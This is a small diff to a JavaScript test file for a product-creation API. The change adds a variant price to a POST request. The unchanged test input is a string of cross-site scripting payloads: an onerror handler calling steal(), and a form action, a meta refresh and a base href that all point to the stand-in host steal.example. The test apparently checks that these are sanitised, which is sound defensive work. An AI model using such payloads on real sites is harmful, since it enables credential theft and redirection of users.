@@ -294,7 +294,7 @@ describe('creating', () => {
       '<math><mtext><style><img src=x onerror=steal()></style></mtext></math><form action="https://steal.example"><input></form>',
       '<object data="steal.swf"></object><meta http-equiv="refresh" content="0;url=https://steal.example"><base href="//steal.example">',
     ].join('')
-    const made = await post('/product-v2', { title: 'Tea', status: 'ACTIVE', descriptionHtml })
+    const made = await post('/product-v2', { title: 'Tea', status: 'ACTIVE', descriptionHtml, variants: [{ price: usd(0) }] })
     const seen = await app.call('GET', `/product-v2/public/${made.body.id}`)
     expect(seen.body.descriptionHtml).toBe(made.body.descriptionHtml)
     expect(seen.body.descriptionHtml).toContain('<p>Keep <b>this</b></p>')
